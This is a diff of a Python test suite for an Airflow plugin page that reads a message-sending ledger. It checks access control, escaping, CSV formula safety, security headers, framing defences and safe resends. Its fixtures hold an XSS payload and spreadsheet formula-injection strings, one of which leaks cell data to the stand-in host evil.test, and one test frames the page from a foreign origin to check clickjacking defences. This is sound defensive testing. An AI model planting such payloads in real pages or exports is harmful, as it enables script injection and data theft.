@@ -15,7 +15,8 @@ import subprocess
 import sys
 import time
 import uuid
-from collections.abc import Iterator
+from collections.abc import Generator, Iterator
+from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -26,7 +27,7 @@ import sqlalchemy as sa
 import altcraft
 from altcraft.ledger import Ledger, Outcome, RelaunchPolicy, RunRef, Scope, Settlement
 
-from .airflow_server import READABLE, RESTRICTED
+from .airflow_server import NOBODY, READABLE, RESTRICTED
 
 REPO = Path(__file__).resolve().parents[2]
 PG = "postgresql+psycopg2://postgres@127.0.0.1:5432"
@@ -34,8 +35,9 @@ SECRET = "secret_dag"
 XSS = "<img src=x onerror=alert(1)>"
 FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "\tcmd", "\r=1")
 SCOPE, OLD = Scope("https://acme.altcraft.test", 7), Scope("https://acme.altcraft.test", 99)
+DIED = Scope("https://acme.altcraft.test", 8)
 ONCE = RelaunchPolicy.parse("once")
-USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw"}
+USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw", NOBODY: "nobody-pw"}
 
 
 def _admin(statement: str) -> None:
@@ -46,21 +48,23 @@ def _admin(statement: str) -> None:
 
 
 def _fill(ledger: Ledger) -> None:
-    """Both DAGs' run ``r1`` with hostile reasons and source keys; a contact both DAGs sent; and an
-    uncertain contact of another scenario whose only outcome is 40 days old."""
+    """Both DAGs' run ``r1`` with hostile reasons and source keys (``secret_dag``'s settled just now, an
+    hour after ``open_dag``'s); a contact both DAGs sent; and an uncertain contact of another scenario
+    whose only outcome is 40 days old; a contact of another scenario that a try of ``open_dag``'s run left
+    ``sending``."""
     now = datetime.now(UTC)
-    for dag_id in (READABLE, SECRET):
+    for dag_id, at in ((READABLE, now - timedelta(hours=1)), (SECRET, now)):  # uncertain: for long, just now
         run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
         sources = [XSS, *FORMULAS, f"{dag_id} row"]
         items = [(f"email:{dag_id}-{n}@example.org", source) for n, source in enumerate(sources)]
-        claim = ledger.claim(SCOPE, run, items, ONCE, now=now)
+        claim = ledger.claim(SCOPE, run, items, ONCE, now=at)
         texts = (XSS, *FORMULAS, f"why {dag_id} failed")
         outcomes = (Outcome.LAUNCHED, Outcome.FAILED, Outcome.UNCERTAIN)
         settled = {
             key: Settlement(outcomes[n % 3], code=400, text=texts[n % len(texts)])
             for n, key in enumerate(claim.to_send)
         }
-        ledger.settle(SCOPE, run, claim, settled, now=now)
+        ledger.settle(SCOPE, run, claim, settled, now=at)
         ledger.record(SCOPE, run, Outcome.REJECTED, [(None, f"{XSS}{dag_id}", 1, f"=1+1 {XSS}")])
     for dag_id, outcome, relaunch in ((READABLE, Outcome.LAUNCHED, False), (SECRET, Outcome.FAILED, True)):
         run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
@@ -73,6 +77,10 @@ def _fill(ledger: Ledger) -> None:
             claim,
             {k: Settlement(outcome, code=5, text=f"text of {dag_id}") for k in claim.to_send},
         )
+    # a contact that a try of open_dag's r1 claimed and died sending: no outcome row, still `sending`
+    ledger.claim(
+        DIED, RunRef.create(READABLE, "import_and_launch", "r1", 1), [("email:died@example.org", "d")], ONCE
+    )
     old, then = RunRef.create(READABLE, "import_and_launch", "old", 1), now - timedelta(days=40)
     claim = ledger.claim(OLD, old, [("email:old@example.org", "old row")], ONCE, now=then)
     ledger.settle(
@@ -103,12 +111,9 @@ def _free_port() -> int:
         return sock.getsockname()[1]
 
 
-@pytest.fixture(scope="module")
-def page(tmp_path_factory) -> Iterator[Page]:
-    name = f"altcraft_ui_app_{uuid.uuid4().hex[:10]}"
-    _admin(f"CREATE DATABASE {name}")
-    engine = sa.create_engine(f"{PG}/{name}")
-    home = tmp_path_factory.mktemp("airflow-ui-app")
+@contextmanager
+def serving(home: Path, ledger_url: str) -> Generator[Page]:
+    """Airflow's API server (metadata in ``home``) with the page reading the ledger at ``ledger_url``."""
     (home / "dags").mkdir()
     (home / "passwords.json").write_text(json.dumps(USERS))
     env = {
@@ -119,19 +124,18 @@ def page(tmp_path_factory) -> Iterator[Page]:
         "AIRFLOW__CORE__LOAD_EXAMPLES": "False",
         "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": f"sqlite:///{home}/airflow.db",
         "AIRFLOW__CORE__AUTH_MANAGER": "tests.ui.airflow_server.PerDagAuthManager",
-        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": f"admin:admin,viewer:viewer,{RESTRICTED}:viewer",
+        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": ",".join(
+            ["admin:admin", "viewer:viewer", f"{RESTRICTED}:viewer", f"{NOBODY}:viewer"]
+        ),
         "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_PASSWORDS_FILE": str(home / "passwords.json"),
         "AIRFLOW__API_AUTH__JWT_SECRET": uuid.uuid4().hex,
         "AIRFLOW__API__SECRET_KEY": uuid.uuid4().hex,
-        "AIRFLOW_CONN_UI_LEDGER": f"postgresql://postgres@127.0.0.1:5432/{name}",
+        "AIRFLOW_CONN_UI_LEDGER": ledger_url,
         "AIRFLOW__ALTCRAFT__LEDGER_CONN_ID": "ui_ledger",
     }
     subprocess.run(
         [sys.executable, "-m", "airflow", "db", "migrate"], env=env, check=True, capture_output=True
     )
-    ledger = Ledger(engine)
-    ledger.ensure_schema()
-    _fill(ledger)
     port = _free_port()
     log = (home / "server.log").open("w")
     server = subprocess.Popen(
@@ -160,8 +164,36 @@ def page(tmp_path_factory) -> Iterator[Page]:
         server.terminate()
         server.wait(30)
         log.close()
-        engine.dispose()
+
+
+@contextmanager
+def database() -> Generator[str]:
+    """A new PostgreSQL database (its name), dropped at the end."""
+    name = f"altcraft_ui_app_{uuid.uuid4().hex[:10]}"
+    _admin(f"CREATE DATABASE {name}")
+    try:
+        yield name
+    finally:
         _admin(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")
+
+
+@pytest.fixture(scope="module")
+def ledger_db() -> Iterator[str]:
+    """The PostgreSQL ledger the page reads (its database name), filled by `_fill`."""
+    with database() as name:
+        engine = sa.create_engine(f"{PG}/{name}")
+        ledger = Ledger(engine)
+        ledger.ensure_schema()
+        _fill(ledger)
+        engine.dispose()
+        yield name
+
+
+@pytest.fixture(scope="module")
+def page(tmp_path_factory, ledger_db) -> Iterator[Page]:
+    home = tmp_path_factory.mktemp("airflow-ui-app")
+    with serving(home, f"postgresql://postgres@127.0.0.1:5432/{ledger_db}") as page:
+        yield page
 
 
 RUN = {"dag_id": READABLE, "run_id": "r1"}
@@ -176,6 +208,21 @@ def test_every_route_requires_a_user_and_read_access_to_the_dag(page):
         assert page.get(path, RESTRICTED, **RUN).status_code == 200, path
     assert page.get("/plan", RESTRICTED, action="dry_run", **RUN).status_code == 403
     assert page.get("/plan", "viewer", action="dry_run", **RUN).status_code == 403
+
+
+def test_every_answer_forbids_foreign_frames_inline_script_and_sniffing(page):
+    answers = [
+        *(page.get(path, **RUN) for path in ("/", "/run", "/run.csv", "/contact", "/static/altcraft.js")),
+        page.get("/plan", action="dry_run", **RUN),
+        page.get("/plan", "viewer", action="dry_run", **RUN),  # 403
+        page.get("/run", page=0, **RUN),  # 422
+        page.search("shared@example.org"),
+    ]
+    for answer in answers:
+        policy = answer.headers.get("Content-Security-Policy", "")
+        assert "frame-ancestors 'self'" in policy and "script-src 'self';" in policy, answer.url
+        assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
+        assert answer.headers["X-Content-Type-Options"] == "nosniff"
 
 
 def test_ledger_texts_are_escaped_on_every_page(page):
@@ -249,6 +296,24 @@ def test_a_user_sees_no_counts_or_contact_state_set_by_a_dag_they_may_not_read(p
     assert SECRET in page.search("shared@example.org").text
 
 
+def attention(html: str) -> dict[str, int]:
+    """The "N uncertain" / "N failed" badges that flag what a person must look at."""
+    return {status: int(n) for n, status in re.findall(r'data-attention="\w+">(\d+) (\w+)<', html)}
+
+
+def test_a_run_with_uncertain_sending_or_failed_contacts_never_looks_clean(page):
+    run = page.get("/run", **RUN).text
+    alert = run.split('id="attention"', 1)[1].split("</p>", 1)[0]
+    # now: with the shared one secret_dag failed, and the one a try died sending
+    assert attention(alert) == {"uncertain": 2, "sending": 1, "failed": 4}
+    restricted = page.get("/run", RESTRICTED, **RUN).text.split('id="attention"', 1)[1].split("</p>", 1)[0]
+    assert attention(restricted) == {"uncertain": 2, "sending": 1, "failed": 3}, "not secret_dag's failure"
+    assert "may or may not have launched" in alert
+    row = page.get("/").text.split(f'data-dag="{READABLE}"', 1)[1].split("</tr>", 1)[0]
+    assert 'state-success">success' in row and attention(row) == {"uncertain": 2, "failed": 3}  # its last run
+    assert 'id="attention"' not in page.get("/run", dag_id=READABLE, run_id="no-outcomes").text
+
+
 def test_a_reconciliation_or_resend_plan_counts_whom_the_run_may_reach(page):
     """Both deliver the run's whole window: its failed and uncertain contacts may get messages (3 failed, 2
     uncertain of its own, and the shared contact another DAG left failed), and new ones of the window."""
@@ -259,3 +324,171 @@ def test_a_reconciliation_or_resend_plan_counts_whom_the_run_may_reach(page):
         assert "up to 6 people of this run" in message and "new to the window" in message
     dry = page.get("/plan", action="dry_run", **RUN).json()
     assert dry["people"] == 0 and "Nothing is sent" in dry["message"]
+
+
+def _all_routes(page: Page) -> dict[str, requests.Response]:
+    """Every page and endpoint that reads the ledger, as the admin."""
+    return {
+        "/": page.get("/"),
+        "/run": page.get("/run", **RUN),
+        "/run.csv": page.get("/run.csv", **RUN),
+        "/contact?h": page.get("/contact", h="0" * 64),
+        "POST /contact": page.search("anna@example.org"),
+        "/plan": page.get("/plan", action="reconcile", **RUN),
+    }
+
+
+def test_a_missing_old_or_unreachable_ledger_is_said_on_every_route_not_a_server_error(tmp_path):
+    with database() as name, serving(tmp_path, f"postgresql://postgres@127.0.0.1:5432/{name}") as page:
+        engine = sa.create_engine(f"{PG}/{name}")
+        states = {}
+        states["missing"] = _all_routes(page)  # an empty database: no ledger tables
+        Ledger(engine).ensure_schema()
+        with engine.begin() as conn:  # a ledger of an older version: no per-day counts
+            conn.exec_driver_sql("DROP TABLE altcraft_outcome_days")
+        old = _all_routes(page)  # the pages that read the per-day counts
+        states["old"] = {route: old[route] for route in ("/", "POST /contact")}
+        engine.dispose()
+        _admin(f"DROP DATABASE {name} WITH (FORCE)")
+        states["unreachable"] = _all_routes(page)
+    for state, answers in states.items():
+        for route, answer in answers.items():
+            assert answer.status_code == 503, (state, route, answer.status_code, answer.text[:300])
+            text = answer.text if route != "/plan" else answer.json()["detail"]
+            assert "ledger" in text, (state, route, text[:300])
+            assert "postgres@" not in text and "Traceback" not in text
+    assert "first pipeline run" in states["missing"]["/"].text  # how its tables are created or upgraded
+
+
+CHROMIUM = os.environ.get("ALTCRAFT_CHROMIUM", "/usr/bin/chromium")
+
+
+@pytest.fixture(scope="module")
+def browser():
+    if not Path(CHROMIUM).exists():
+        pytest.fail(f"Chromium not found at {CHROMIUM} (Debian: apt-get install chromium)")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def admin_tab(browser, page):
+    """A browser tab with the admin's Airflow session cookie, on the run page of ``open_dag``."""
+    context = browser.new_context()
+    context.add_cookies([{"name": "_token", "value": page.tokens["admin"], "url": page.url}])
+    tab = context.new_page()
+    tab.goto(f"{page.url}/altcraft/run?dag_id={READABLE}&run_id=r1")
+    yield tab
+    context.close()
+
+
+@pytest.mark.parametrize("clicks", ["dblclick", "two clicks"])
+def test_an_action_clicked_twice_asks_once_and_starts_one_run(admin_tab, clicks):
+    blocked = []  # the page works under its own Content-Security-Policy
+    admin_tab.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
+    admin_tab.reload()
+    triggers = []
+    admin_tab.on(
+        "request", lambda r: triggers.append(r) if r.method == "POST" and "/dagRuns" in r.url else None
+    )
+    button = admin_tab.locator("button[data-action=reconcile]")
+    if clicks == "dblclick":
+        button.dblclick()
+    else:
+        button.click()
+        button.click(force=True)  # as a person would, on a button that may already be disabled
+    admin_tab.locator("#confirm button[value=ok]").click()
+    admin_tab.locator(".actions .result").filter(has_text="Airflow").wait_for()  # its answer is shown
+    admin_tab.wait_for_timeout(500)
+    assert len(triggers) == 1, [r.url for r in triggers]
+    assert not admin_tab.locator("#confirm").evaluate("d => d.open")
+    assert not blocked
+
+
+def test_uncertain_contacts_are_never_resent_while_altcraft_may_still_process_their_request(page):
+    """secret_dag's run left contacts uncertain just now: a resend could launch them twice, reconciling
+    cannot (it waits for the grace before it calls a request not processed)."""
+    secret = {"dag_id": SECRET, "run_id": "r1"}
+    fresh, failed = (SCOPE.contact_hash(f"email:{SECRET}-{n}@example.org") for n in (2, 1))
+    for selected in ([], [fresh], [fresh, failed]):
+        answer = page.get("/plan", action="resend_uncertain", selected=selected, **secret)
+        assert answer.status_code == 409, selected
+        assert "may launch it twice" in answer.json()["detail"]
+    assert page.get("/plan", action="resend_uncertain", selected=[failed], **secret).status_code == 200
+    assert page.get("/plan", action="reconcile", **secret).status_code == 200
+    assert page.get("/plan", action="resend_uncertain", **RUN).status_code == 200  # uncertain for an hour
+
+
+@pytest.fixture
+def foreign_page(page) -> Iterator[str]:
+    """A page of another origin on the same site (another port of 127.0.0.1, where the browser still sends
+    Airflow's SameSite=Lax cookie) that frames the run page, as one stealing clicks would."""
+    import http.server
+    import threading
+
+    html = f'<iframe id="victim" src="{page.url}/altcraft/run?dag_id={READABLE}&run_id=r1"></iframe>'.encode()
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(html)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}/"
+    server.shutdown()
+
+
+def test_a_page_of_another_origin_cannot_frame_the_actions(browser, page, foreign_page):
+    context = browser.new_context()
+    context.add_cookies([{"name": "_token", "value": page.tokens["admin"], "url": page.url}])
+    tab = context.new_page()
+    framed = []
+    tab.on("response", lambda r: framed.append(r.status) if "/altcraft/run" in r.url else None)
+    tab.goto(foreign_page)
+    tab.wait_for_timeout(1500)
+    assert framed == [200], "the framed page was requested with the session cookie"
+    frame = tab.frame_locator("#victim")
+    assert frame.locator("button[data-action]").count() == 0, "the run page rendered inside a foreign page"
+    context.close()
+
+
+def test_a_ledger_table_locked_by_an_upgrade_gets_a_503_in_seconds_not_a_hung_page(page, ledger_db):
+    engine = sa.create_engine(f"{PG}/{ledger_db}")
+    try:
+        with engine.connect() as locker:  # as an ALTER TABLE of a schema upgrade holds it
+            locker.exec_driver_sql("LOCK TABLE altcraft_outcome_days IN ACCESS EXCLUSIVE MODE")
+            started = time.monotonic()
+            answer = page.get("/")
+            assert answer.status_code == 503 and "lock timeout" in answer.text
+            assert time.monotonic() - started < 15
+            locker.rollback()
+    finally:
+        engine.dispose()
+    assert page.get("/").status_code == 200
+
+
+def test_a_run_without_a_data_interval_offers_no_action_on_another_window(page):
+    """A new run would get the interval Airflow infers for its logical date (now): not the run's window."""
+    run = {"dag_id": READABLE, "run_id": "no_interval"}
+    for action in ("reconcile", "resend_uncertain", "dry_run"):
+        answer = page.get("/plan", action=action, **run)
+        assert answer.status_code == 400 and "no data interval" in answer.json()["detail"], action
+    html = page.get("/run", **run).text
+    assert 'id="no-actions"' in html and "data-action" not in html
+    assert "data-action" in page.get("/run", **RUN).text
+
+
+def test_a_user_who_may_read_no_pipeline_is_told_so_not_that_the_ledger_is_empty(page):
+    html = page.get("/", NOBODY).text
+    assert "You may read none of the pipelines" in html and "No outcomes in the ledger" not in html
+    assert 'data-scenario="' not in html
